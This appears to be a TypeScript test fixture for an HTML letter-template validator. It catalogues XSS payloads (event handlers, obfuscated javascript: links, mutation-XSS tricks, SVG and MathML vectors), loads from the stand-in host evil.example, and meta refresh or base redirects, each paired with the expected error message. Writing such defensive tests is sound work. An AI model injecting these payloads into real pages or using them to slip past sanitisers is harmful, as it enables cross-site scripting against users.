/**
 * Hostile practice templates: each kind of way a template could run script, fetch from another
 * server or navigate away, and their variants. Every payload that runs calls alert(1); every
 * fetch goes to evil.example.
 */
export interface HostileCase {
  name: string;
  /** What it does when nothing stops it. */
  kind: 'script' | 'script on click' | 'fetch' | 'navigate';
  /** Markup in the head (line 6) … */
  head?: string;
  /** … or in the body (line 10) … */
  body?: string;
  /** … or a whole document, with `line` the payload's line. */
  whole?: string;
  line?: number;
  /** The problems must say this. */
  expect: RegExp;
}

export const EVIL = 'https://evil.example';
const SVG_ONLOAD = "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>";
const doc = (head: string, body: string) =>
  `<!doctype html>\n<html lang="en-GB">\n<head>\n<meta charset="utf-8">\n<title>Letter</title>\n${head}\n</head>\n<body>\n<p>Dear Alex,</p>\n${body}\n<p>With best wishes, Dr Sam Patel</p>\n</body>\n</html>\n`;

/** The template for a case, and the line its payload starts on. */
export function hostileTemplate(c: HostileCase): { template: string; line: number } {
  if (c.whole) return { template: c.whole, line: c.line ?? 1 };
  return { template: doc(c.head ?? '', c.body ?? ''), line: c.head ? 6 : 10 };
}

export const HOSTILE_CASES: HostileCase[] = [
  // Script that runs with no click.
  { name: 'inline <script>', kind: 'script', body: '<script>alert(1)</script>', expect: /<script>/ },
  { name: '<script src> from another server', kind: 'script', body: `<script src="${EVIL}/x.js"></script>`, expect: /<script>/ },
  { name: 'module script', kind: 'script', body: '<script type="module">alert(1)</script>', expect: /<script>/ },
  { name: 'upper-case <SCRIPT>', kind: 'script', body: '<SCRIPT type="text/javascript">alert(1)</SCRIPT>', expect: /<script>/ },
  { name: 'a JSON script outside a Scanwise tag', kind: 'script', body: '<script type="application/json">{"a":1}</script>', expect: /<script>/ },
  {
    name: 'a script inside a Scanwise tag',
    kind: 'script',
    body: '<sdm-watchful-waiting-plan><script>alert(1)</script></sdm-watchful-waiting-plan>',
    expect: /<script>/,
  },
  {
    name: 'a JSON child with an event attribute',
    kind: 'script',
    body: '<sdm-watchful-waiting-plan><script type="application/json" onload="alert(1)">{}</script></sdm-watchful-waiting-plan>',
    expect: /onload="…", which is JavaScript/,
  },
  {
    name: '<img onerror>',
    kind: 'script',
    body: '<img src="data:image/png;base64,AAAA" onerror="alert(1)">',
    expect: /onerror="…", which is JavaScript/,
  },
  {
    name: 'onerror after a slash',
    kind: 'script',
    body: '<img src="data:image/png;base64,AAAA"/onerror="alert(1)">',
    expect: /onerror="…", which is JavaScript/,
  },
  {
    name: '<body onload>',
    kind: 'script',
    whole:
      '<!doctype html>\n<html lang="en-GB">\n<head><meta charset="utf-8"><title>L</title></head>\n<body onload="alert(1)">\n<p>Dear Alex,</p>\n</body>\n</html>\n',
    line: 4,
    expect: /onload="…", which is JavaScript/,
  },
  {
    name: 'a second <body onload> (merged into the body)',
    kind: 'script',
    body: '<body onload="alert(1)">',
    expect: /onload="…", which is JavaScript.*browsers differ/,
  },
  {
    name: 'a second <html> with an event attribute',
    kind: 'script',
    body: '<html onclick="alert(1)">',
    expect: /onclick="…", which is JavaScript.*browsers differ/,
  },
  { name: '<svg onload>', kind: 'script', body: '<svg onload="alert(1)"></svg>', expect: /<svg> is not allowed/ },
  {
    name: '<details ontoggle>',
    kind: 'script',
    body: '<details open ontoggle="alert(1)"><summary>More</summary>x</details>',
    expect: /ontoggle="…", which is JavaScript/,
  },
  { name: '<input autofocus onfocus>', kind: 'script', body: '<input autofocus onfocus="alert(1)">', expect: /<input> is not allowed/ },
  {
    name: '<iframe srcdoc> (the letter\u2019s own origin)',
    kind: 'script',
    body: '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
    expect: /<iframe> is not allowed/,
  },
  {
    name: '<iframe src="data:text/html">',
    kind: 'script',
    body: '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    expect: /<iframe> is not allowed/,
  },
  {
    name: '<iframe src="javascript:">',
    kind: 'script',
    body: '<iframe src="javascript:parent.alert(1)"></iframe>',
    expect: /<iframe> is not allowed/,
  },
  {
    name: '<object data="data:text/html">',
    kind: 'script',
    body: '<object data="data:text/html,<script>alert(1)</script>"></object>',
    expect: /<object> is not allowed/,
  },
  { name: '<object> with an SVG onload', kind: 'script', body: `<object data="${SVG_ONLOAD}"></object>`, expect: /<object> is not allowed/ },
  {
    name: '<embed src="data:text/html">',
    kind: 'script',
    body: '<embed src="data:text/html,<script>alert(1)</script>">',
    expect: /<embed> is not allowed/,
  },
  { name: '<embed> with an SVG onload', kind: 'script', body: `<embed type="image/svg+xml" src="${SVG_ONLOAD}">`, expect: /<embed> is not allowed/ },
  {
    name: '<frameset> with a data: frame',
    kind: 'script',
    whole:
      '<!doctype html>\n<html lang="en-GB">\n<head><meta charset="utf-8"><title>L</title></head>\n<frameset onload="alert(1)"><frame src="data:text/html,<script>alert(1)</script>"></frameset>\n</html>\n',
    line: 4,
    expect: /<frameset> is not allowed/,
  },
  { name: '<svg><script>', kind: 'script', body: '<svg><script>alert(1)</script></svg>', expect: /<svg> is not allowed/ },
  {
    name: '<svg><script href="data:">',
    kind: 'script',
    body: '<svg><script href="data:text/javascript,alert(1)"></script></svg>',
    expect: /<svg> is not allowed/,
  },
  {
    name: '<noscript> read two ways (mutation XSS)',
    kind: 'script',
    body: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
    expect: /<noscript> is not allowed/,
  },
  {
    name: '<iframe> inside <select> (dropped by parse5, kept by Chromium)',
    kind: 'script',
    body: '<select><iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe></select>',
    expect: /<iframe> is not allowed.*browsers differ/,
  },
  {
    name: 'MathML <mglyph><style> (mutation XSS)',
    kind: 'script',
    body: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    expect: /<math> is not allowed/,
  },
  {
    name: 'SVG <style> holding an <img> (mutation XSS)',
    kind: 'script',
    body: '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    expect: /is not allowed/,
  },
  {
    name: '<template> holding an <img onerror>',
    kind: 'script',
    body: '<template><img src=x onerror=alert(1)></template>',
    expect: /<template> is not allowed/,
  },
  { name: '<video><source onerror>', kind: 'script', body: '<video><source onerror="alert(1)"></video>', expect: /<video> is not allowed/ },
  {
    name: 'an <img onerror> hidden after a comment',
    kind: 'script',
    body: '<!--<img src="--><img src=x onerror=alert(1)//">',
    expect: /onerror="…", which is JavaScript/,
  },
  {
    name: 'a removal that would join text into a <script>',
    kind: 'script',
    body: '<<iframe></iframe>script>alert(1)</script>',
    expect: /<iframe> is not allowed/,
  },
  { name: 'a raw <plaintext>', kind: 'script', body: '<plaintext><img src=x onerror=alert(1)>', expect: /<plaintext> is not allowed/ },

  // Script that runs on a click.
  {
    name: '<a href="javascript:">',
    kind: 'script on click',
    body: '<a href="javascript:alert(1)">Read more</a>',
    expect: /href="…", which is JavaScript/,
  },
  {
    name: 'a tab inside the scheme (&#x09;)',
    kind: 'script on click',
    body: '<a href="java&#x09;script:alert(1)">Read more</a>',
    expect: /href="…", which is JavaScript/,
  },
  {
    name: 'a new line inside the scheme',
    kind: 'script on click',
    body: '<a href="java\nscript:alert(1)">Read more</a>',
    expect: /href="…", which is JavaScript/,
  },
  {
    name: 'U+0001 before the scheme (&#x01;)',
    kind: 'script on click',
    body: '<a href="&#x01;javascript:alert(1)">Read more</a>',
    expect: /href="…", which is JavaScript/,
  },
  {
    name: 'a raw U+0001 before the scheme',
    kind: 'script on click',
    body: '<a href="\u0001javascript:alert(1)">Read more</a>',
    expect: /control character \(U\+0001\)/,
  },
  {
    name: 'spaces before the scheme',
    kind: 'script on click',
    body: '<a href="   javascript:alert(1)">Read more</a>',
    expect: /href="…", which is JavaScript/,
  },
  {
    name: 'mixed case JaVaScRiPt:',
    kind: 'script on click',
    body: '<a href="JaVaScRiPt:alert(1)">Read more</a>',
    expect: /href="…", which is JavaScript/,
  },
  {
    name: 'the colon as &colon;',
    kind: 'script on click',
    body: '<a href="javascript&colon;alert(1)">Read more</a>',
    expect: /href="…", which is JavaScript/,
  },
  {
    name: 'the scheme as decimal references',
    kind: 'script on click',
    body: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Read more</a>',
    expect: /href="…", which is JavaScript/,
  },
  {
    name: 'a reference without its semicolon',
    kind: 'script on click',
    body: '<a href="&#106avascript:alert(1)">Read more</a>',
    expect: /href="…", which is JavaScript/,
  },
  {
    name: 'a soft hyphen and zero-width space inside the scheme',
    kind: 'script on click',
    body: '<a href="java&shy;scr&#x200b;ipt:alert(1)">Read more</a>',
    expect: /href="…", which is JavaScript|<a href> is/,
  },
  { name: 'vbscript:', kind: 'script on click', body: '<a href="vbscript:msgbox(1)">Read more</a>', expect: /href="…", which is JavaScript/ },
  {
    name: 'a data:text/html link',
    kind: 'script on click',
    body: '<a href="data:text/html,<script>alert(1)</script>">Read more</a>',
    expect: /"data:" address/,
  },
  {
    name: 'an SVG <a href="javascript:">',
    kind: 'script on click',
    body: '<svg width="100" height="30"><a href="javascript:alert(1)"><text x="5" y="20">Read more</text></a></svg>',
    expect: /<svg> is not allowed/,
  },
  {
    name: 'an SVG <a xlink:href="javascript:">',
    kind: 'script on click',
    body: '<svg width="100" height="30"><a xlink:href="javascript:alert(1)"><text x="5" y="20">Read more</text></a></svg>',
    expect: /<svg> is not allowed/,
  },
  {
    name: 'SVG <animate values="javascript:"> on a link',
    kind: 'script on click',
    body: '<svg width="100" height="30"><a><animate attributeName="href" values="javascript:alert(1)"/><text x="5" y="20">Read more</text></a></svg>',
    expect: /<svg> is not allowed/,
  },
  {
    name: 'SVG <set to="javascript:"> on a link',
    kind: 'script on click',
    body: '<svg width="100" height="30"><a><set attributeName="href" to="javascript:alert(1)"/><text x="5" y="20">Read more</text></a></svg>',
    expect: /<svg> is not allowed/,
  },
  {
    name: 'SVG <animate> of xlink:href',
    kind: 'script on click',
    body: '<svg width="100" height="30"><a xlink:href="#"><animate attributeName="xlink:href" from="javascript:alert(1)" to="javascript:alert(1)" fill="freeze"/><text x="5" y="20">Read more</text></a></svg>',
    expect: /<svg> is not allowed/,
  },
  { name: 'a MathML href', kind: 'script on click', body: '<math><mi href="javascript:alert(1)">x</mi></math>', expect: /<math> is not allowed/ },
  {
    name: '<form action="javascript:">',
    kind: 'script on click',
    body: '<form action="javascript:alert(1)"><button>Send</button></form>',
    expect: /<form> is not allowed/,
  },
  {
    name: '<button formaction="javascript:">',
    kind: 'script on click',
    body: '<form><button formaction="javascript:alert(1)">Send</button></form>',
    expect: /<form> is not allowed/,
  },
  {
    name: 'an image map <area href="javascript:">',
    kind: 'script on click',
    body: '<map name="m"><area shape="rect" coords="0,0,50,50" href="javascript:alert(1)"></map>',
    expect: /<map> is not allowed/,
  },
  {
    name: 'a javascript: link in a <blockquote cite>',
    kind: 'script on click',
    body: '<blockquote cite="javascript:alert(1)">Quoted</blockquote>',
    expect: /cite="…", which is JavaScript/,
  },

  // Fetches from other servers.
  { name: '<style>@import url()', kind: 'fetch', head: `<style>@import url(${EVIL}/a.css);</style>`, expect: /@import/ },
  { name: '<style>@import "…"', kind: 'fetch', head: `<style>@import "${EVIL}/b.css";</style>`, expect: /@import/ },
  { name: '@import written with an escape (@\\69mport)', kind: 'fetch', head: `<style>@\\69mport "${EVIL}/c.css";</style>`, expect: /@import/ },
  { name: 'CSS url() in <style>', kind: 'fetch', head: `<style>body { background: url(${EVIL}/bg.png) }</style>`, expect: /url\(…\) loads/ },
  {
    name: 'CSS url() written with an escape (\\75 rl)',
    kind: 'fetch',
    head: `<style>body { background: \\75 rl(${EVIL}/esc.png) }</style>`,
    expect: /url\(…\) loads/,
  },
  {
    name: 'CSS url() in a quoted string',
    kind: 'fetch',
    head: `<style>body { background: url("${EVIL}/q.png") }</style>`,
    expect: /url\("…"\) loads/,
  },
  {
    name: 'CSS image-set("…")',
    kind: 'fetch',
    head: `<style>body { background-image: image-set("${EVIL}/set.png" 1x) }</style>`,
    expect: /image-set\("…"\) loads/,
  },
  {
    name: 'CSS -webkit-image-set(url())',
    kind: 'fetch',
    head: `<style>p { background-image: -webkit-image-set(url(${EVIL}/w.png) 1x) }</style>`,
    expect: /url\(…\) loads/,
  },
  {
    name: 'CSS image-set(var()) from a custom property',
    kind: 'fetch',
    head: `<style>:root { --u: "${EVIL}/var.png" } body { background-image: image-set(var(--u) 1x) }</style>`,
    expect: /var\(\) inside an address/,
  },
  {
    name: '@font-face from another server',
    kind: 'fetch',
    head: `<style>@font-face { font-family: x; src: url(${EVIL}/f.woff2) } body { font-family: x }</style>`,
    expect: /url\(…\) loads/,
  },
  {
    name: 'CSS url() inside @media print',
    kind: 'fetch',
    head: `<style>@media print { body { background: url(${EVIL}/print.png) } }</style>`,
    expect: /url\(…\) loads/,
  },
  {
    name: 'CSS url() with no scheme (//host)',
    kind: 'fetch',
    head: '<style>li { list-style-image: url(//evil.example/l.png) }</style>',
    expect: /url\(…\) loads/,
  },
  {
    name: 'CSS content: url() in ::before',
    kind: 'fetch',
    head: `<style>p::before { content: url(${EVIL}/before.png) }</style>`,
    expect: /url\(…\) loads/,
  },
  {
    name: 'an unknown at-rule (@document)',
    kind: 'fetch',
    head: `<style>@document url(${EVIL}/) { body { color: red } }</style>`,
    expect: /@document is not an at-rule/,
  },
  {
    name: 'style="" with url()',
    kind: 'fetch',
    body: `<p style="background-image: url('${EVIL}/attr.png')">Hello</p>`,
    expect: /style="…" that url\("…"\) loads/,
  },
  {
    name: 'style="" with url written as u&#114;l',
    kind: 'fetch',
    body: `<p style="background: u&#114;l(${EVIL}/ent.png)">Hello</p>`,
    expect: /style="…" that url\(…\) loads/,
  },
  {
    name: 'style="" cursor: url()',
    kind: 'fetch',
    body: `<p style="cursor: url(${EVIL}/c.cur), auto">Hello</p>`,
    expect: /style="…" that url\(…\) loads/,
  },
  { name: '<link rel="stylesheet">', kind: 'fetch', head: `<link rel="stylesheet" href="${EVIL}/s.css">`, expect: /<link> is not allowed/ },
  { name: '<link rel="prefetch">', kind: 'fetch', head: `<link rel="prefetch" href="${EVIL}/p">`, expect: /<link> is not allowed/ },
  { name: '<link rel="icon">', kind: 'fetch', head: `<link rel="icon" href="${EVIL}/favicon.ico">`, expect: /<link> is not allowed/ },
  {
    name: '<img> from another server',
    kind: 'fetch',
    body: `<img src="${EVIL}/i.png" alt="">`,
    expect: /picture from "https:\/\/evil\.example\/i\.png"/,
  },
  { name: '<img> from //host', kind: 'fetch', body: '<img src="//evil.example/pr.png" alt="">', expect: /picture from/ },
  { name: '<img> from a file nobody passed', kind: 'fetch', body: '<img src="logo.png" alt="">', expect: /pass the file/ },
  { name: '<img srcset>', kind: 'fetch', body: `<img srcset="${EVIL}/ss.png 1x" alt="">`, expect: /srcset="…", which a letter may not have/ },
  {
    name: '<picture><source srcset>',
    kind: 'fetch',
    body: `<picture><source srcset="${EVIL}/pic.png"><img alt=""></picture>`,
    expect: /<picture> is not allowed/,
  },
  {
    name: '<svg><image href>',
    kind: 'fetch',
    body: `<svg><image href="${EVIL}/svgimg.png" width="10" height="10"/></svg>`,
    expect: /<svg> is not allowed/,
  },
  { name: '<svg><use href>', kind: 'fetch', body: `<svg><use href="${EVIL}/sprite.svg#x"/></svg>`, expect: /<svg> is not allowed/ },
  {
    name: '<table background>',
    kind: 'fetch',
    body: `<table background="${EVIL}/tb.png"><tr><td>x</td></tr></table>`,
    expect: /background="…", which a letter may not have/,
  },
  {
    name: '<body background>',
    kind: 'fetch',
    whole: `<!doctype html>\n<html lang="en-GB">\n<head><meta charset="utf-8"><title>L</title></head>\n<body background="${EVIL}/body.png">\n<p>Dear Alex,</p>\n</body>\n</html>\n`,
    line: 4,
    expect: /background="…"/,
  },
  {
    name: '<a ping>',
    kind: 'fetch',
    body: `<a href="https://ok.example/" ping="${EVIL}/ping">Read more</a>`,
    expect: /ping="…", which a letter may not have/,
  },
  { name: '<video poster>', kind: 'fetch', body: `<video poster="${EVIL}/poster.png"></video>`, expect: /<video> is not allowed/ },
  { name: '<audio autoplay>', kind: 'fetch', body: `<audio src="${EVIL}/a.mp3" autoplay></audio>`, expect: /<audio> is not allowed/ },
  { name: '<input type="image">', kind: 'fetch', body: `<input type="image" src="${EVIL}/in.png">`, expect: /<input> is not allowed/ },
  { name: '<iframe> from another server', kind: 'fetch', body: `<iframe src="${EVIL}/"></iframe>`, expect: /<iframe> is not allowed/ },
  { name: '<object> from another server', kind: 'fetch', body: `<object data="${EVIL}/o.pdf"></object>`, expect: /<object> is not allowed/ },
  {
    name: '<img> with a data: address that is not a picture',
    kind: 'fetch',
    body: '<img src="data:text/html,<script>alert(1)</script>" alt="">',
    expect: /not a PNG, JPEG/,
  },

  // Navigating away, or reading the letter differently.
  {
    name: '<meta http-equiv="refresh">',
    kind: 'navigate',
    head: `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
    expect: /<meta http-equiv="refresh"> is not allowed/,
  },
  {
    name: 'a Refresh <META> in the body, to about:blank',
    kind: 'navigate',
    body: '<META HTTP-EQUIV="Refresh" CONTENT="0; URL=about:blank">',
    expect: /<meta http-equiv="refresh"> is not allowed/,
  },
  {
    name: 'a refresh to javascript:',
    kind: 'navigate',
    head: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    expect: /<meta http-equiv="refresh">/,
  },
  { name: '<base href>', kind: 'navigate', head: `<base href="${EVIL}/">`, expect: /<base> is not allowed/ },
  { name: '<base target>', kind: 'navigate', head: '<base target="_blank">', expect: /<base> is not allowed/ },
  {
    name: 'the template\u2019s own CSP <meta>',
    kind: 'navigate',
    head: '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    expect: /<meta http-equiv="content-security-policy"> is not allowed/,
  },
  {
    name: '<meta http-equiv="set-cookie">',
    kind: 'navigate',
    head: '<meta http-equiv="set-cookie" content="a=b">',
    expect: /<meta http-equiv="set-cookie">/,
  },
  {
    name: 'a character set other than UTF-8',
    kind: 'navigate',
    whole:
      '<!doctype html>\n<html lang="en-GB">\n<head>\n<meta charset="iso-2022-jp">\n<title>L</title>\n</head>\n<body><p>Dear Alex,</p></body>\n</html>\n',
    line: 4,
    expect: /letters are written in UTF-8/,
  },
  { name: 'an ISO-2022-JP escape (ESC) in the text', kind: 'navigate', body: '<p>\u001b$B\u001b(B</p>', expect: /control character \(U\+001B\)/ },
  {
    name: 'a form sent to another server',
    kind: 'navigate',
    body: `<form action="${EVIL}/"><input name="q" value="x"><button>Send</button></form>`,
    expect: /<form> is not allowed/,
  },
  { name: 'a relative link', kind: 'navigate', body: '<a href="other.html">Read more</a>', expect: /relative address/ },
  { name: '<a target>', kind: 'navigate', body: '<a href="https://ok.example/" target="_top">Read more</a>', expect: /target="…"/ },
  { name: 'an unknown element (<portal>)', kind: 'navigate', body: `<portal src="${EVIL}/"></portal>`, expect: /<portal> is not allowed/ },
];

/** Templates that look risky but are fine, and must pass (and run nothing in a browser). */
export const ALLOWED_CASES: { name: string; head?: string; body: string }[] = [
  { name: 'an SVG picture with onload, as an <img> (pictures never run script)', body: `<img src="${SVG_ONLOAD}" alt="logo">` },
  {
    name: 'a PNG data: picture',
    body: '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" alt="dot" width="10" height="10">',
  },
  {
    name: 'links to https, mailto, tel and a #place',
    body: '<p id="top"><a href="https://www.nhs.uk/conditions/back-pain/">NHS</a> <a href="mailto:reception@example.org">Email</a> <a href="tel:+441174960000">Call</a> <a href="#top">Top</a></p>',
  },
  {
    name: 'CSS with a data: background and page rules',
    head: '<style>@page { size: A4; margin: 20mm } @media print { .x { background: url(data:image/png;base64,iVBORw0KGgo=) } } p { color: #000 }</style>',
    body: '<p class="x" style="color: red; font-weight: bold">Hello</p>',
  },
  {
    name: 'tables, lists, headings and older presentational attributes',
    body: '<h2 align="center">Plan</h2><table border="1" cellpadding="4" width="100%"><tr><th scope="col">A</th><td bgcolor="#eee" colspan="2">b</td></tr></table><ol start="3"><li>x</li></ol><font face="Arial" color="#333">old</font>',
  },
  { name: 'a content-type <meta> in UTF-8', head: '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">', body: '<p>Hello</p>' },
];
